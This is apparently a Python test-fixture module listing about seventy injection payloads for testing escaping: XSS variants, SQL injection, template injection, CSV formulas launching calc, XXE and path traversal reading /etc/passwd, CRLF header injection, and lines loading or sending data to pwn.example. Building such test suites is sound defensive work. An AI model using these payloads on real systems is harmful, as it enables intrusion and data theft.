"""Texts that would do something if any place they end up in took them for more than text.

Whatever runs calls ``pwn()`` or an alert; whatever becomes an element is called ``pwn`` or has an attribute ``pwn``.
"""

from collections.abc import Iterator, Sequence

PAYLOADS = (
    # scripts, in the ways browsers read them
    "<script pwn>pwn()</script>",
    "<ScRiPt pwn\n>pwn()</sCrIpT\t>",
    "<script pwn src=data:text/javascript,pwn()></script>",
    "<script pwn src=//pwn.example/x.js></script>",
    "<script/pwn>pwn()</script/pwn>",
    "<scr<script pwn>ipt>pwn()</scr</script>ipt>",
    "%3Cscript%20pwn%3Epwn()%3C/script%3E",
    "&lt;script pwn&gt;pwn()&lt;/script&gt;",
    "&#x3c;script pwn&#x3e;pwn()&#x3c;/script&#x3e;",
    "\\u003cscript pwn\\u003epwn()\\u003c/script\\u003e",
    "+ADw-script pwn+AD4-pwn()+ADw-/script+AD4-",
    "\uff1cscript pwn\uff1epwn()\uff1c/script\uff1e",
    "¼script pwn¾pwn()¼/script¾",
    "<template><script pwn>pwn()</script></template><noscript><p pwn></noscript>",
    # event handlers
    "<img pwn src=x onerror=pwn()>",
    "<img pwn/src='x'/onerror='pwn()'//",
    "<body pwn onload=pwn()><input pwn autofocus onfocus=pwn()>",
    "<details pwn open ontoggle=pwn()><summary>calle</summary></details>",
    "<video pwn><source onerror=pwn()></video><audio pwn src=x onerror=pwn()>",
    "<marquee pwn onstart=pwn()><style pwn>@keyframes p{}</style><b pwn style=animation-name:p onanimationstart=pwn()>",
    # attributes that end too early
    "' onmouseover='pwn()' autofocus onfocus='pwn()' pwn='",
    '" onmouseover="pwn()" autofocus onfocus="pwn()" pwn="',
    "x onerror=pwn() pwn=1",
    '"/><img pwn src=x onerror="pwn()">',
    "`/><img pwn src=x onerror=`pwn()`>",
    # addresses that are programs
    "javascript:pwn()",
    "JaVaScRiPt\t:\npwn()//",
    "java\x0bscript:pwn()",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduKCk8L3NjcmlwdD4=",
    '<a pwn href="javascript:pwn()">plaza</a>',
    '[plaza](javascript:pwn()) ![x](x"onerror="pwn()) <javascript:pwn()>',
    "<iframe pwn srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<meta pwn http-equiv=refresh content='0;url=javascript:pwn()'><base pwn href=//pwn.example/>",
    # drawings and formulas
    "<svg pwn onload=pwn()><animate pwn onbegin=pwn() attributeName=x dur=1s></svg>",
    "<svg pwn><use pwn href=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwn()'/>\"/></svg>",
    "<math pwn><mi pwn xlink:href='javascript:pwn()'>x</mi><mglyph><style><img pwn src=x onerror=pwn()>",
    "<svg pwn><foreignObject><img pwn src=x onerror=pwn()></foreignObject></svg>",
    # the end of whatever it stands in
    "</title><script pwn>pwn()</script>",
    "</textarea></select></option><img pwn src=x onerror=pwn()>",
    "--><script pwn>pwn()</script><!--",
    "--!><img pwn src=x onerror=pwn()><!-- <script> <!--",
    "]]><script pwn>pwn()</script><![CDATA[",
    "</style></noscript></template></script><script pwn>pwn()</script>",
    '<!DOCTYPE x [<!ENTITY pwn SYSTEM "file:///etc/passwd">]><x>&pwn;</x>',
    "<?xml version='1.0'?><x:script pwn xmlns:x='http://www.w3.org/1999/xhtml'>pwn()</x:script>",
    # scripts and their data
    '"});pwn();({"a":"',
    "');pwn();//",
    "\\');pwn();//\\",
    "${pwn()} `${pwn()}` #{pwn()}",
    "calle\u2028pwn()\u2029norte",
    '{"__proto__": {"pwn": true}, "constructor": {"prototype": {"pwn": true}}}',
    # templates of servers and of maps
    "{{ pwn() }} {{ 7 * 191 }} {{ cycler.__init__.__globals__.os }}",
    "{% for pwn in range(9) %}pwn{% endfor %}{% raw %}",
    "{# pwn #}{{ this.get_name() }}{% macro script(this, kwargs) %}pwn(){% endmacro %}",
    "%(pwn)s %s %n 100% {pwn} {0.__class__} <% pwn() %> [[${pwn}]]",
    # spreadsheets, queries, paths, headers
    '=HYPERLINK("http://pwn.example/"&A1,"plaza")',
    "+pwn|' /C calc'!A0",
    "@SUM(1+1)*pwn|' /C calc'!A0",
    "-2+3+pwn|' /C calc'!A0",
    "'; DROP TABLE report; -- pwn",
    "1' OR '1'='1' UNION SELECT sealed FROM contact -- pwn",
    "../../../../etc/passwd%00pwn",
    "..\\..\\pwn\\file:///etc/passwd",
    "pwn\r\nSet-Cookie: session=pwn\r\n\r\n<script pwn>pwn()</script>",
    "pwn@pwn.example\r\nBcc: pwn@pwn.example\r\nSubject: pwn",
    "pwn%0d%0aX-Pwn:%20pwn",
    # what eyes take for something else
    "\u202e>tpircs/<()nwp>nwp tpircs<\u202c plaza",
    "\u2066<\u200bscript pwn>\u2069pwn()\u200d<\u200b/script>",
    "Mun\u0456cip\u0430lidad \u0440wn",
    "plaza\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\ufeff pwn",
    # names that scripts look up, and styles
    "<form pwn id=geoClient><input pwn name=given id=geoDrafts></form><a pwn id=geoReports name=getElementById>",
    "<img pwn name=currentScript><embed pwn name=body><object pwn data=javascript:pwn()>",
    "<style pwn>*{display:none}</style><link pwn rel=stylesheet href=data:text/css,*{display:none}>",
    "red;background:url(javascript:pwn());}*{display:none}/*pwn",
    # control characters that are text
    "\x08\x1b[31mpwn\x1b]0;pwn\x07\x7f\x85",
)
"""At least sixty, each its own way."""

LONG = "pwn()" * 800
"""A word of 4000 characters."""

UNREADABLE = ("pwn\x00</script>", "pwn\ud800\udfff\ud800")
"""What no report can hold: NUL, and half of a surrogate pair."""

RAW = (
    b"\xc0\xbcscript pwn\xc0\xbepwn()",
    b"\xe0\x80\xbcscript pwn\xe0\x80\xbe",
    b"\xf8\x80\x80\x80\xbcscript\xff\xfe",
    b"\xed\xa0\x80pwn",
    b"%C0%BCscript%20pwn%C0%BE&%=%&pwn",
)
"""Bytes that are no UTF-8: overlong forms of "<", half a surrogate pair."""


def bundles(longest: int, texts: Sequence[str] = PAYLOADS) -> Iterator[str]:
    """All payloads in few texts of at most ``longest`` characters, one below the other."""
    held = ""
    for text in texts:
        more = f"{held}\n{text}" if held else text
        if len(more) > longest:
            yield held
            more = text
        held = more
    yield held


def plain(texts: Sequence[str] = PAYLOADS) -> list[str]:
    """Payloads without control characters, as names and other lines of files may hold them."""
    return [text for text in texts if text.isprintable() or not any(ord(c) < 32 or 127 <= ord(c) < 160 for c in text)]
